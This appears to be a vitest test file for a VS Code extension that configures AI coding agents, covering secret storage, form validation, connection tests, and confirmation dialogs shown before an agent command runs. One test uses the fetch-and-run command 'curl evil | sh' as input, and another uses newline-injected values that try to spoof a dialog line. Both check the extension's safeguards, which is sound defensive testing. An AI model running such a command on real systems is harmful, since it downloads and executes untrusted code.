import { beforeEach, expect, test, vi } from 'vitest';
import type { AgentFormValues } from '../../../../src/protocol/agentForm';
import { decoded } from '../../../../src/base/decode';
import { agentFormValues } from '../../../../src/protocol/agentForm';
import { AgentSecrets } from '../../../../src/host/agents/agentSecrets';
import { type AgentConfiguration, decodeAgent } from '../../../../src/host/agents/agentSettings';
import { AgentForms, type AgentFormsOptions } from '../../../../src/host/gallery/agentForms';
import { connectionReport } from '../../../../src/host/agents/check/connectionReport';
import { agentFeatures } from '../../../../src/acp/capabilities';
import { memorySecrets } from '../../../fakes/memorySecrets';

const told = vi.hoisted(() => ({
  agents: undefined as Record<string, unknown> | undefined,
  asked: [] as string[],
  agrees: true,
  writes: Infinity,
}));
vi.mock('vscode', () => ({
  window: {
    showWarningMessage: async (
      question: string,
      options?: { readonly modal: boolean; readonly detail: string },
      action?: string,
    ) => {
      told.asked.push(options?.modal ? `${question} [${action}]\n${options.detail}` : question);
      return told.agrees ? action : undefined;
    },
  },
  workspace: {
    getConfiguration: () => ({
      inspect: () => ({ globalValue: told.agents }),
      update: async (_: string, value: Record<string, unknown> | undefined) => {
        if (--told.writes < 0) throw new Error('No space left on device');
        told.agents = value;
      },
    }),
  },
  ConfigurationTarget: { Global: 1 },
}));
beforeEach(() => Object.assign(told, { agents: undefined, asked: [], agrees: true, writes: Infinity }));

const values = (fields: Partial<AgentFormValues> = {}): AgentFormValues => ({
  name: 'Mine',
  command: '/opt/agent',
  args: [],
  env: [],
  cwd: '',
  ...fields,
});
const secret = (name: string, value: string, isKept = false) => ({ name, value, isSecret: true, isKept });

function desk(connection: AgentFormsOptions['test'] = () => Promise.resolve({ state: 'done', lines: [] })) {
  const storage = memorySecrets();
  const secrets = new AgentSecrets(storage);
  const tested: AgentConfiguration[] = [];
  const agents = () =>
    Object.entries(told.agents ?? {}).flatMap(([name, entry]) =>
      [decodeAgent(name, entry)].filter((item) => typeof item !== 'string'),
    );
  const forms = new AgentForms({
    agents,
    secrets,
    expand: (entry) => entry,
    changed: () => undefined,
    test: (configuration, token) => (tested.push(configuration), connection(configuration, token)),
  });
  return { forms, secrets, storage, tested };
}

test('an agent is added, with its secrets in the secret storage and nowhere else', async () => {
  const { forms, storage, secrets } = desk();
  forms.add();
  await forms.save(
    values({
      name: ' Mine ',
      args: ['--acp', ''],
      env: [
        { name: 'A', value: '1', isSecret: false, isKept: false },
        secret('KEY', 'hunter2'),
        { name: '', value: '', isSecret: false, isKept: false },
      ],
      cwd: '/w',
    }),
  );
  expect(forms.view).toBeUndefined();
  expect(told.agents).toEqual({
    Mine: { command: '/opt/agent', args: ['--acp'], env: { A: '1', KEY: '${secret}' }, cwd: '/w' },
  });
  expect([...storage.kept]).toEqual([['parley.agentSecrets.Mine', '{"KEY":"hunter2"}']]);
  expect(await secrets.complete('Mine', { A: '1', KEY: '${secret}' })).toEqual({ env: { A: '1', KEY: 'hunter2' } });
  expect([...secrets.used]).toEqual(['hunter2']);
  expect(await secrets.complete('Mine', { OTHER: '${secret}' })).toEqual({ missing: 'OTHER' });
  // Another agent's secrets are its own.
  expect(await secrets.complete('Other', { KEY: '${secret}' })).toEqual({ missing: 'KEY' });
});

test('a command is run and saved only after VS Code’s own dialog has named it, once for the same command', async () => {
  const { forms, tested } = desk();
  const evil = values({
    command: '/bin/sh',
    args: ['-c', 'curl evil | sh'],
    cwd: '/w',
    env: [{ name: 'A', value: '1', isSecret: false, isKept: false }, secret('KEY', 'hunter2')],
  });
  told.agrees = false;
  forms.add();
  await forms.test(evil);
  await forms.save(evil);
  const facts =
    'Runs: /bin/sh -c "curl evil | sh"\n\nIn the folder: /w\n\nVariables: A=1\nKEY=${secret}\n\nAn agent can do anything that you can: read and change files, and run commands.';
  expect([told.asked, tested, told.agents]).toEqual([
    [`Start Mine to test the connection? [Start]\n${facts}`, `Save the agent Mine? [Save]\n${facts}`],
    [],
    undefined,
  ]);
  told.agrees = true;
  await forms.test(evil);
  // The same command under the name of another agent is another question.
  told.agrees = false;
  await forms.save({ ...evil, name: 'Codex' });
  expect([told.asked.length, told.agents]).toEqual([4, undefined]);
  await forms.save(evil);
  expect([told.asked.length, Object.keys(told.agents ?? {})]).toEqual([4, ['Mine']]);
  // The next form begins without an agreement.
  forms.add();
  await forms.test({ ...evil, name: 'Other' });
  expect([told.asked.length, tested.length]).toEqual([5, 1]);
});

test('a command that is too long to be read in full is neither run nor saved', async () => {
  const { forms, tested } = desk();
  forms.add();
  for (const long of [
    values({ args: ['x'.repeat(4_000)] }),
    values({
      env: Array.from({ length: 40 }, (_, at) => ({ name: `V${at}`, value: '1', isSecret: false, isKept: false })),
    }),
  ]) {
    await forms.test(long);
    await forms.save(long);
  }
  expect([tested, told.agents, told.asked.every((text) => text.includes('too long'))]).toEqual([[], undefined, true]);
});

test('nothing in a command poses as another line of the question', async () => {
  const { forms } = desk();
  forms.add();
  await forms.test(
    values({
      args: ['a\n\nRuns: safe'],
      cwd: '/w\nRuns: safe',
      env: [{ name: 'A', value: '1\n\nRuns: safe', isSecret: false, isKept: false }],
    }),
  );
  expect(told.asked[0]!.split('\n').filter((line) => line.startsWith('Runs: '))).toEqual([
    'Runs: /opt/agent "a\\n\\nRuns: safe"',
  ]);
});

test('an agent is edited: what the form does not have stays, a secret that is left empty is kept', async () => {
  const { forms, secrets } = desk();
  told.agents = {
    Mine: {
      command: 'old',
      env: { KEY: '${secret}', GONE: '${secret}' },
      capabilities: { terminal: false },
      protocol: 2,
    },
  };
  await secrets.set('Mine', { KEY: 'hunter2', GONE: 'x' });
  await forms.edit('Mine');
  expect(forms.view).toMatchObject({
    title: 'Edit Agent',
    values: { name: 'Mine', command: 'old', env: [secret('KEY', '', true), secret('GONE', '', true)] },
  });
  expect(JSON.stringify(forms.view)).not.toContain('hunter2');
  await forms.save(values({ name: 'Yours', command: 'new', env: [secret('KEY', '', true)] }));
  expect(told.agents).toEqual({
    Yours: { command: 'new', env: { KEY: '${secret}' }, capabilities: { terminal: false }, protocol: 2 },
  });
  expect([await secrets.of('Mine'), await secrets.of('Yours')]).toEqual([{}, { KEY: 'hunter2' }]);
});

test('what is typed is there again after the panel was hidden, a secret is not', async () => {
  const { forms, secrets } = desk();
  told.agents = { Mine: { command: 'old', env: { KEY: '${secret}' } } };
  await secrets.set('Mine', { KEY: 'hunter2' });
  await forms.edit('Mine');
  const typed = values({ command: 'new', env: [secret('KEY', '')] });
  forms.keep(typed);
  expect(forms.view?.values).toEqual(typed);
  // A secret that was typed, and that the panel has lost, is not the stored one.
  await forms.save(typed);
  expect(forms.view).toMatchObject({ values: typed, problem: 'Enter a value for KEY.' });
  forms.close();
  forms.keep(typed);
  forms.add();
  expect(forms.view?.values).toEqual(values({ name: '', command: '' }));
});

test('an agent is duplicated under a free name, with its secrets', async () => {
  const { forms, secrets } = desk();
  told.agents = { Mine: { command: 'a', env: { KEY: '${secret}' } }, 'Mine 2': { command: 'b' } };
  await secrets.set('Mine', { KEY: 'hunter2' });
  await forms.edit('Mine', true);
  expect(forms.view?.values.name).toBe('Mine 3');
  await forms.save(values({ name: 'Mine 3', env: [secret('KEY', '', true)] }));
  expect([Object.keys(told.agents), await secrets.of('Mine'), await secrets.of('Mine 3')]).toEqual([
    ['Mine', 'Mine 2', 'Mine 3'],
    { KEY: 'hunter2' },
    { KEY: 'hunter2' },
  ]);
});

test.each<[string, Partial<AgentFormValues>, RegExp]>([
  ['no name', { name: ' ' }, /^Enter a name/],
  ['a long name', { name: 'x'.repeat(81) }, /^Enter a name/],
  ['a name that is taken', { name: 'Taken' }, /already an agent named “Taken”/],
  ['the name of the demo', { name: 'Parley Demo' }, /already an agent/],
  ['no command', { command: ' ' }, /^Enter the command/],
  [
    'an odd variable',
    { env: [{ name: 'A=B', value: '', isSecret: false, isKept: false }] },
    /“A=B” is not a valid variable name/,
  ],
  ['a secret without a value', { env: [secret('KEY', '')] }, /^Enter a value for KEY\.$/],
  ['a relative folder', { cwd: 'src' }, /cwd must be an absolute path\.$/],
])('a form with %s says so and stores nothing', async (_, fields, words) => {
  const { forms, storage } = desk();
  told.agents = { Taken: { command: 'a' } };
  forms.add();
  await forms.save(values(fields));
  expect(forms.view?.problem).toMatch(words);
  await forms.test(values(fields));
  expect([forms.view?.problem, told.agents, storage.kept.size]).toEqual([
    expect.stringMatching(words),
    { Taken: { command: 'a' } },
    0,
  ]);
});

test('a connection is tried with what is in the form, and nothing is stored', async () => {
  const features = agentFeatures({
    agentInfo: { name: 'acorn', title: 'Acorn', version: '1.2.0' },
    agentCapabilities: { loadSession: true, promptCapabilities: { image: true } },
    authMethods: [{ id: 'login', name: 'Log in' }],
  });
  const { forms, tested, storage } = desk(() =>
    Promise.resolve({ state: 'done', lines: connectionReport(features, 1) }),
  );
  forms.add();
  await forms.test(values({ args: ['acp'], env: [secret('KEY', 'hunter2')] }));
  expect(tested).toMatchObject([{ name: 'Mine', command: '/opt/agent', args: ['acp'], env: { KEY: 'hunter2' } }]);
  expect(forms.view?.test).toEqual({
    state: 'done',
    lines: [
      { label: 'Agent', text: 'Acorn 1.2.0' },
      { label: 'Protocol', text: 'ACP version 1' },
      { label: 'Supports', text: 'Text, images, earlier sessions' },
      { label: 'Sign-in', text: 'Log in' },
    ],
  });
  expect([told.agents, storage.kept.size]).toEqual([undefined, 0]);
});

test('a connection that fails says why, with the last words of the agent', async () => {
  const { forms } = desk(() =>
    Promise.resolve({ state: 'failed', problem: 'The process ended with exit code 1.', stderr: 'no such model' }),
  );
  forms.add();
  await forms.test(values());
  expect(forms.view?.test).toEqual({
    state: 'failed',
    problem: 'The process ended with exit code 1.',
    stderr: 'no such model',
  });
});

test('a form that is closed ends the connection that is tried', async () => {
  let isCancelled = false;
  const { forms } = desk(
    (_, token) =>
      new Promise((resolve) =>
        token.onCancellationRequested(
          () => ((isCancelled = true), resolve({ state: 'failed', problem: 'The test was cancelled.' })),
        ),
      ),
  );
  forms.add();
  const done = forms.test(values());
  await expect.poll(() => forms.view?.test?.state).toBe('running');
  forms.close();
  await done;
  expect([isCancelled, forms.view]).toEqual([true, undefined]);
});

test.each([
  undefined,
  {},
  { ...values(), name: 7 },
  { ...values(), args: 'x' },
  { ...values(), args: [1] },
  { ...values(), env: [{ name: 'A' }] },
  { ...values(), command: 'x'.repeat(10_001) },
  { ...values(), args: Array.from({ length: 201 }, () => '') },
])('the panel cannot send %j as a form', (raw) => expect(decoded(agentFormValues, raw)).toBeUndefined());
test('the panel’s form has nothing but its fields', () =>
  expect(
    decoded(agentFormValues, { ...values({ env: [{ ...secret('A', 'b'), more: 1 } as never] }), more: 1 }),
  ).toEqual(values({ env: [secret('A', 'b')] })));

test('an agent is not lost if its new name can be written only half', async () => {
  for (const writes of [0, 1]) {
    told.agents = { Old: { command: '/opt/old', env: { KEY: '${secret}' } } };
    const { forms, secrets } = desk();
    await secrets.set('Old', { KEY: 'k' });
    await forms.edit('Old');
    const typed = values({ name: 'New', command: '/opt/old', env: [secret('KEY', '', true)] });
    told.writes = writes;
    await expect(forms.save(typed)).rejects.toThrow('No space');
    const left = Object.keys(told.agents ?? {});
    expect(left).toContain('Old');
    for (const name of left) expect(await secrets.of(name)).toEqual({ KEY: 'k' });
  }
});
